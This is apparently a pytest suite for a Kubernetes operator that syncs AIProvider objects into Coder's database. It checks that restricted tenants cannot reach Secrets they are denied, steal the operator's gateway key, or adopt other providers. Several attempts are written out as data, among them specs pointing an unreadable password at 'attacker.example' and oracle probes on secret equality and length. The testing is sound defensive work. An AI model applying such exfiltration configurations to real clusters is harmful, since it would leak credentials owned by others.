"""Tenancy (#13): tenants as real ServiceAccounts with namespaced Roles, acting with their own
TokenRequest tokens, attempt what the adversarial run did; each attempt is denied or harmless,
and Coder's database is checked after each.

Tenants (``tests/support/tenancy.py``): a namespace **editor** (``edit`` plus the chart's
aggregated rules) and an **AIProvider-only** user (no Secrets).
"""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

import pytest
from kubernetes import client

from aigateway_operator.masking import mask_secret
from tests.support.db import table_versions
from tests.support.operator import (
    ALLOW_ALL,
    OperatorProcess,
    condition,
    custom,
    get_obj,
    make_secret,
    wait_condition,
)
from tests.support.tenancy import (
    GROUP,
    VERSION,
    aggregated_roles,
    db_rows,
    editor,
    extra_namespace,
    key_count,
    owner_records,
    provider_row,
    providers_only,
    wait_schema,
)
from tests.support.wait import wait_for

pytestmark = pytest.mark.faults

P = "aiproviders"
PASSWORD = "Zq7!Pa55w0rd-0123456789-XYZW"
KEY_A = "sk-tenant-AAAAAAAAAAAAAAAAAAAAAAAA-000a"
KEY_B = "sk-tenant-BBBBBBBBBBBBBBBBBBBBBBBB-000b"


def spec(secret: str, *keys: str, **extra: Any) -> dict[str, Any]:
    return {
        "type": "openai",
        "apiKeys": [{"secretKeyRef": {"name": secret, "key": k}} for k in keys],
        **extra,
    }


def leaks(obj: dict[str, Any], value: str) -> bool:
    """Whether the object shows ``value`` or any part Coder's masking would show of it."""
    text = json.dumps(obj)
    masked = mask_secret(value)
    parts = [value, masked, value[:4], value[-4:]]
    return any(p and p in text for p in parts)


@pytest.fixture(scope="module")
def chart_roles(k8s_api: client.ApiClient) -> Iterator[None]:
    with aggregated_roles(k8s_api):
        yield


def started(factory: Callable[..., OperatorProcess], **kw: Any) -> OperatorProcess:
    """An operator, once it has its schema (so the database can be read back)."""
    op = factory(**kw)
    wait_schema(op.database_url)
    return op


def ready_id(k8s_api: client.ApiClient, ns: str, name: str) -> str:
    obj = wait_condition(k8s_api, ns, P, name, "Ready")
    return str(obj["status"]["providerID"])


# --- finding 3: a Secret reaches Coder only when its owner allowed it -------------------------


def test_a_secret_the_author_cannot_read_never_reaches_coder(
    operator_factory: Callable[..., OperatorProcess],
    k8s_api: client.ApiClient,
    namespace: str,
) -> None:
    op = started(operator_factory)
    author = providers_only(k8s_api, namespace)
    make_secret(k8s_api, namespace, "payments-db", {"password": PASSWORD, "copy": PASSWORD},
                annotations={})  # fmt: skip
    make_secret(k8s_api, namespace, "for-someone-else", {"k": PASSWORD},
                annotations={"aigateway.dev/allowed-aiproviders": "billing"})  # fmt: skip
    make_secret(k8s_api, namespace, "huge", {"k": "x" * 9000}, annotations={})
    make_secret(k8s_api, namespace, "mine", {"k": KEY_A})  # opted in: the control case
    assert not author.can_read_secret("payments-db"), "the author is denied get secrets"
    before = table_versions(op.database_url)

    attempts = {
        # what the adversarial run copied into Coder, under a base URL of its choosing
        "exfil": {**spec("payments-db", "password"), "type": "openai-compat",
                  "baseURL": "https://attacker.example/v1"},
        # "are these two unreadable values equal?" must not be answerable (DuplicateAPIKey)
        "equal": spec("payments-db", "password", "copy"),
        # "is it longer than 8 KiB?" must not be answerable (InvalidSecretValue)
        "length": spec("huge", "k"),
        # a Secret that opted in, but for another AIProvider
        "other-consumer": spec("for-someone-else", "k"),
    }  # fmt: skip
    for name, body in attempts.items():
        author.apply(P, name, body)
    author.apply(P, "missing", spec("no-such-secret", "password"))
    for name in attempts:
        obj = wait_condition(k8s_api, namespace, P, name, "SecretsResolved", "False",
                             "SecretNotFound")  # fmt: skip
        assert not leaks(obj, PASSWORD), name
        assert "providerID" not in obj.get("status", {}), name
    # Unusable reads exactly like missing: the message differs only by the Secret's name.
    missing = wait_condition(k8s_api, namespace, P, "missing", "SecretsResolved", "False",
                             "SecretNotFound")  # fmt: skip
    refused = get_obj(k8s_api, namespace, P, "exfil")
    assert (
        condition(refused, "SecretsResolved")["message"].replace(  # type: ignore[index]
            "payments-db", "no-such-secret"
        )
        == condition(missing, "SecretsResolved")["message"]
    )  # type: ignore[index]
    assert table_versions(op.database_url) == before, "nothing was written for any attempt"

    author.apply(P, "mine", spec("mine", "k"))
    provider_id = ready_id(k8s_api, namespace, "mine")
    assert key_count(op.database_url, provider_id) == 1, "an opted-in Secret is used"


def test_the_operators_gateway_key_secret_is_never_a_provider_key(
    operator_factory: Callable[..., OperatorProcess],
    k8s_api: client.ApiClient,
    namespace: str,
) -> None:
    op = started(operator_factory)
    author = providers_only(k8s_api, namespace)
    custom(k8s_api).create_namespaced_custom_object(
        GROUP, VERSION, namespace, "aigatewaycoderdkeys",
        {"apiVersion": f"{GROUP}/{VERSION}", "kind": "AIGatewayCoderdKey",
         "metadata": {"name": "gw"}, "spec": {"secretName": "gw-key"}},
    )  # fmt: skip
    wait_condition(k8s_api, namespace, "aigatewaycoderdkeys", "gw", "Ready")
    # Even opted in (by someone who could edit it), the operator's own Secret is refused.
    client.CoreV1Api(k8s_api).patch_namespaced_secret(
        "gw-key", namespace, {"metadata": {"annotations": ALLOW_ALL}}
    )
    secret = client.CoreV1Api(k8s_api).read_namespaced_secret("gw-key", namespace)
    data_keys = sorted(secret.data or {})
    assert data_keys, "the gateway-key Secret holds the key"
    before = table_versions(op.database_url)
    author.apply(P, "steal", spec("gw-key", data_keys[0]))
    obj = wait_condition(k8s_api, namespace, P, "steal", "SecretsResolved", "False",
                         "SecretNotFound")  # fmt: skip
    assert "providerID" not in obj.get("status", {})
    assert table_versions(op.database_url) == before


# --- finding 4: adoption is the platform's decision -------------------------------------------


def _coder_made(dsn: str, name: str, type_: str = "openai") -> tuple[Any, ...]:
    db_rows(
        dsn,
        "INSERT INTO ai_providers (type, name, display_name, base_url) "
        "VALUES (%s, %s, 'Made in the UI', 'https://api.openai.com/v1/')",
        (type_, name),
    )
    row = provider_row(dsn, name)
    assert row is not None
    return row


def test_adoption_only_where_the_platform_allows_it_and_never_of_another_type(
    operator_factory: Callable[..., OperatorProcess],
    k8s_api: client.ApiClient,
    namespace: str,
) -> None:
    with extra_namespace(k8s_api) as platform:
        op = started(
            operator_factory,
            namespaces=[namespace, platform],
            extra_env={"AIGW_ADOPTION_NAMESPACES": platform},
        )
        make_secret(k8s_api, namespace, "keys", {"k": KEY_A})
        make_secret(k8s_api, platform, "keys", {"k": KEY_B})
        author = providers_only(k8s_api, namespace)
        author.apply(P, "boot", spec("keys", "k"))  # the schema exists once a pass ran
        ready_id(k8s_api, namespace, "boot")
        ui = _coder_made(op.database_url, "ui-made")
        before = table_versions(op.database_url)

        # A tenant namespace asks to adopt, with another type and its own base URL.
        author.apply(P, "ui-made", {**spec("keys", "k"), "adoptExisting": True,
                                    "type": "openai-compat",
                                    "baseURL": "https://attacker.example/v1"})  # fmt: skip
        obj = wait_condition(k8s_api, namespace, P, "ui-made", "Synced", "False",
                             "NameConflict")  # fmt: skip
        message = condition(obj, "Synced")["message"]  # type: ignore[index]
        assert "adoption is not allowed in namespace" in message
        assert "AIGW_ADOPTION_NAMESPACES" in message
        author.delete(P, "ui-made")
        wait_for(lambda: _gone(k8s_api, namespace, "ui-made"), 60, "the refused object gone")
        assert table_versions(op.database_url) == before, "refused, and its delete touched nothing"

        # The platform namespace may adopt, but never change the type.
        platform_admin = custom(k8s_api)
        body = {
            "apiVersion": f"{GROUP}/{VERSION}",
            "kind": "AIProvider",
            "metadata": {"name": "ui-made"},
            "spec": {**spec("keys", "k"), "adoptExisting": True, "type": "anthropic"},
        }
        platform_admin.create_namespaced_custom_object(GROUP, VERSION, platform, P, body)
        obj = wait_condition(k8s_api, platform, P, "ui-made", "Synced", "False", "TypeMismatch")
        assert "spec.type" in condition(obj, "Synced")["message"]  # type: ignore[index]
        assert table_versions(op.database_url) == before

        # spec.type is immutable (CEL): the platform re-creates the object with the right one.
        platform_admin.delete_namespaced_custom_object(GROUP, VERSION, platform, P, "ui-made")
        wait_for(lambda: _gone(k8s_api, platform, "ui-made"), 60, "the mistyped object gone")
        assert table_versions(op.database_url) == before, "its delete touched nothing"
        body["spec"]["type"] = "openai"
        platform_admin.create_namespaced_custom_object(GROUP, VERSION, platform, P, body)
        assert ready_id(k8s_api, platform, "ui-made") == str(ui[0]), "adopted: the id is kept"
        audited = db_rows(
            op.database_url,
            "SELECT additional_fields FROM audit_logs WHERE resource_id = %s "
            "AND resource_type = 'ai_provider' ORDER BY time",
            (ui[0],),
        )
        assert [a.get("adopted") for (a,) in audited] == [True], "audited as an adoption"


def _gone(k8s_api: client.ApiClient, ns: str, name: str) -> bool:
    items = custom(k8s_api).list_namespaced_custom_object(GROUP, VERSION, ns, P)["items"]
    return all(o["metadata"]["name"] != name for o in items)


# --- finding 5: no row outlives its object ----------------------------------------------------


def test_create_and_delete_at_once_leaves_no_live_row_and_a_free_name(
    operator_factory: Callable[..., OperatorProcess],
    k8s_api: client.ApiClient,
    namespace: str,
) -> None:
    with extra_namespace(k8s_api) as other:
        op = started(operator_factory, namespaces=[namespace, other])
        make_secret(k8s_api, namespace, "keys", {"k": KEY_A})
        make_secret(k8s_api, other, "keys", {"k": KEY_B})
        author = providers_only(k8s_api, namespace)
        names = [f"race-{i}" for i in range(50)]
        for i, name in enumerate(names):
            author.apply(P, name, spec("keys", "k"))
            if i % 5 == 0:  # these certainly have a row before their delete
                wait_for(partial(provider_row, op.database_url, name), 60, f"{name}'s row")
            author.delete(P, name)

        def settled() -> bool:
            live = db_rows(
                op.database_url,
                "SELECT name FROM ai_providers WHERE name LIKE 'race-%%' AND NOT deleted",
            )
            keys = db_rows(
                op.database_url,
                "SELECT p.name FROM ai_provider_keys k JOIN ai_providers p "
                "ON p.id = k.provider_id WHERE p.name LIKE 'race-%%'",
            )
            records = owner_records(op.database_url)
            if (live, keys, records) == ([], [], []):
                return True
            # What the operator did with the leftovers (its log is secret-free by contract).
            left = {str(n) for (n,) in live} | {n for _, _, n in records}
            trail = [line for line in op.log().splitlines() if any(n in line for n in left)]
            detail = "\n".join(trail[-60:])
            raise AssertionError(f"left: {live=} {keys=} {records=}\n{detail}")

        wait_for(lambda: all(_gone(k8s_api, namespace, n) for n in names), 120, "objects gone")
        wait_for(settled, 120, "no live row, key or record left by the race")
        # Every name is free: another namespace takes one.
        custom(k8s_api).create_namespaced_custom_object(
            GROUP, VERSION, other, P,
            {"apiVersion": f"{GROUP}/{VERSION}", "kind": "AIProvider",
             "metadata": {"name": "race-0"}, "spec": spec("keys", "k")},
        )  # fmt: skip
        ready_id(k8s_api, other, "race-0")


def test_a_finalizer_removed_by_hand_still_releases_the_row(
    operator_factory: Callable[..., OperatorProcess],
    k8s_api: client.ApiClient,
    namespace: str,
    chart_roles: None,
) -> None:
    with extra_namespace(k8s_api) as other:
        op = started(operator_factory, namespaces=[namespace, other])
        make_secret(k8s_api, namespace, "keys", {"k": KEY_A})
        make_secret(k8s_api, other, "keys", {"k": KEY_B})
        tenant = editor(k8s_api, namespace)
        tenant.apply(P, "handmade", spec("keys", "k"))
        provider_id = ready_id(k8s_api, namespace, "handmade")
        # What the README once advised for a stuck object: drop the finalizers by hand.
        tenant.patch(P, "handmade", {"metadata": {"finalizers": None}})
        tenant.delete(P, "handmade")
        wait_for(lambda: _gone(k8s_api, namespace, "handmade"), 60, "object gone")

        def released() -> bool:
            rows = db_rows(
                op.database_url, "SELECT deleted FROM ai_providers WHERE id = %s", (provider_id,)
            )
            return rows == [(True,)] and key_count(op.database_url, provider_id) == 0

        wait_for(released, 60, "the row soft-deleted with its keys")
        assert owner_records(op.database_url) == []
        custom(k8s_api).create_namespaced_custom_object(
            GROUP, VERSION, other, P,
            {"apiVersion": f"{GROUP}/{VERSION}", "kind": "AIProvider",
             "metadata": {"name": "handmade"}, "spec": spec("keys", "k")},
        )  # fmt: skip
        ready_id(k8s_api, other, "handmade")


def test_a_gateway_key_whose_finalizer_was_removed_by_hand_is_revoked(
    operator_factory: Callable[..., OperatorProcess],
    k8s_api: client.ApiClient,
    namespace: str,
    chart_roles: None,
) -> None:
    op = started(operator_factory)
    tenant = editor(k8s_api, namespace)
    tenant.apply("aigatewaycoderdkeys", "gw", {"secretName": "gw-key"})
    obj = wait_condition(k8s_api, namespace, "aigatewaycoderdkeys", "gw", "Ready")
    key_id = obj["status"]["keyID"]
    assert db_rows(op.database_url, "SELECT count(*) FROM ai_gateway_keys WHERE id = %s",
                   (key_id,)) == [(1,)]  # fmt: skip
    tenant.patch("aigatewaycoderdkeys", "gw", {"metadata": {"finalizers": None}})
    tenant.delete("aigatewaycoderdkeys", "gw")

    def revoked() -> bool:
        rows = db_rows(op.database_url, "SELECT count(*) FROM ai_gateway_keys WHERE id = %s",
                       (key_id,))  # fmt: skip
        records = db_rows(
            op.database_url,
            "SELECT count(*) FROM aigateway_operator.owners WHERE row_table = 'ai_gateway_keys'",
        )
        return rows == [(0,)] and records == [(0,)]

    wait_for(revoked, 60, "the key of the deleted object revoked and its records gone")


def test_a_row_whose_object_went_while_no_operator_ran_is_collected_after_the_grace(
    operator_factory: Callable[..., OperatorProcess],
    k8s_api: client.ApiClient,
    namespace: str,
    chart_roles: None,
) -> None:
    """A namespace editor removes the finalizer and deletes its object while no operator
    runs: the next operator collects the row."""
    first = started(operator_factory)
    tenant = editor(k8s_api, namespace)
    make_secret(tenant.api, namespace, "keys", {"k": KEY_A})
    tenant.apply(P, "lost", spec("keys", "k"))
    provider_id = ready_id(k8s_api, namespace, "lost")
    first.stop()
    tenant.patch(P, "lost", {"metadata": {"finalizers": None}})
    tenant.delete(P, "lost")
    wait_for(lambda: _gone(k8s_api, namespace, "lost"), 60, "object gone")
    started(
        operator_factory,
        database_url=first.database_url,
        encryption_key=first.encryption_key,
        extra_env={"AIGW_GC_GRACE_S": "0"},
    )

    def collected() -> bool:
        rows = db_rows(
            first.database_url, "SELECT deleted FROM ai_providers WHERE id = %s", (provider_id,)
        )
        return rows == [(True,)] and not owner_records(first.database_url)

    wait_for(collected, 60, "the lost object's row collected at start")
    assert key_count(first.database_url, provider_id) == 0


# --- finding 6: simultaneous claims resolve without a wedge -----------------------------------


def test_two_claims_in_the_same_second_leave_one_owner_that_keeps_syncing(
    operator_factory: Callable[..., OperatorProcess],
    k8s_api: client.ApiClient,
    namespace: str,
) -> None:
    with extra_namespace(k8s_api) as other:
        op = started(operator_factory, namespaces=[namespace, other])
        tenants = [providers_only(k8s_api, namespace), providers_only(k8s_api, other)]
        for t, value in zip(tenants, (KEY_A, KEY_B), strict=True):
            make_secret(k8s_api, t.namespace, "keys", {"k": value, "k2": value + "-2"})
        gate = threading.Barrier(2)

        def claim(t: Any) -> None:
            gate.wait(timeout=30)
            t.apply(P, "claim", spec("keys", "k", providerName="shared"))

        threads = [threading.Thread(target=claim, args=(t,)) for t in tenants]
        for th in threads:
            th.start()
        for th in threads:
            th.join(timeout=60)

        def outcome() -> tuple[str, str] | None:
            states = {}
            for t in tenants:
                obj = get_obj(k8s_api, t.namespace, P, "claim")
                synced = condition(obj, "Synced") or {}
                states[t.namespace] = (synced.get("status"), synced.get("reason"))
            winners = [ns for ns, s in states.items() if s == ("True", "Synced")]
            losers = [ns for ns, s in states.items() if s == ("False", "NameConflict")]
            if len(winners) == 1 and len(losers) == 1:
                return winners[0], losers[0]
            return None

        winner, loser = wait_for(outcome, 120, "one owner and one NameConflict")
        lost = get_obj(k8s_api, loser, P, "claim")
        assert f"AIProvider {winner}/claim" in condition(lost, "Synced")["message"]  # type: ignore[index]
        row = provider_row(op.database_url, "shared")
        assert row is not None
        assert key_count(op.database_url, row[0]) == 1
        # The owner is not wedged: a spec change (its own) syncs.
        by_ns = {t.namespace: t for t in tenants}
        by_ns[winner].patch(P, "claim", {"spec": spec("keys", "k", "k2")})
        wait_condition(k8s_api, winner, P, "claim", "Ready")
        assert key_count(op.database_url, row[0]) == 2
        # And once the owner deletes its object the newcomer takes the name over.
        by_ns[winner].delete(P, "claim")
        wait_condition(k8s_api, loser, P, "claim", "Ready")
        taken = provider_row(op.database_url, "shared")
        assert taken is not None
        assert key_count(op.database_url, taken[0]) == 1
        assert owner_records(op.database_url) == [("default", loser, "claim")]


# --- finding 7: the same identity takes its rows back ------------------------------------------


def test_a_cluster_rebuilt_from_git_takes_its_rows_back_and_another_instance_does_not(
    operator_factory: Callable[..., OperatorProcess],
    k8s_api: client.ApiClient,
    namespace: str,
    chart_roles: None,
) -> None:
    """The objects are applied by the namespace's editor (a GitOps agent with ``edit``);
    losing the cluster is the platform's doing (admin)."""
    first = started(operator_factory)
    git = editor(k8s_api, namespace, sa="gitops")
    make_secret(git.api, namespace, "keys", {"k": KEY_A})
    manifests = {
        "kept": spec("keys", "k"),
        "orphaned": spec("keys", "k", deletionPolicy="Orphan"),
    }
    api = custom(k8s_api)

    def apply_all() -> None:
        for name, body in manifests.items():
            git.apply(P, name, body)

    apply_all()
    ids = {name: ready_id(k8s_api, namespace, name) for name in manifests}
    # The cluster is lost: its objects vanish without any finalizer running.
    first.stop()
    for name in manifests:
        api.patch_namespaced_custom_object(
            GROUP, VERSION, namespace, P, name, {"metadata": {"finalizers": None}}
        )
        api.delete_namespaced_custom_object(GROUP, VERSION, namespace, P, name)
    wait_for(lambda: all(_gone(k8s_api, namespace, n) for n in manifests), 60, "objects gone")
    # The rebuilt cluster's operator starts before Git re-applies the objects.
    operator_factory(database_url=first.database_url, encryption_key=first.encryption_key)
    git.apply(P, "sentinel", spec("keys", "k"))
    ready_id(k8s_api, namespace, "sentinel")  # the new operator's start sweep is behind us
    for name, provider_id in ids.items():
        row = provider_row(first.database_url, name)
        assert row is not None, f"{name} kept while the objects return"
        assert str(row[0]) == provider_id
    apply_all()
    assert {name: ready_id(k8s_api, namespace, name) for name in manifests} == ids
    deletes = db_rows(
        first.database_url,
        "SELECT count(*) FROM audit_logs WHERE action = 'delete' AND resource_id::text = ANY(%s)",
        (list(ids.values()),),
    )
    assert deletes == [(0,)], "nothing was deleted across the rebuild"

    # Another operator install against the same Coder: the name is held, and says by whom.
    with extra_namespace(k8s_api) as site_b:
        make_secret(k8s_api, site_b, "keys", {"k": KEY_B})
        started(
            operator_factory,
            database_url=first.database_url,
            encryption_key=first.encryption_key,
            namespaces=[site_b],
            extra_env={"AIGW_INSTANCE_ID": "site-b"},
        )
        api.create_namespaced_custom_object(
            GROUP, VERSION, site_b, P,
            {"apiVersion": f"{GROUP}/{VERSION}", "kind": "AIProvider",
             "metadata": {"name": "kept"}, "spec": spec("keys", "k")},
        )  # fmt: skip
        obj = wait_condition(k8s_api, site_b, P, "kept", "Synced", "False", "NameConflict")
        assert "operator instance 'default'" in condition(obj, "Synced")["message"]  # type: ignore[index]
        row = provider_row(first.database_url, "kept")
        assert row is not None
        assert str(row[0]) == ids["kept"]
        assert key_count(first.database_url, row[0]) == 1
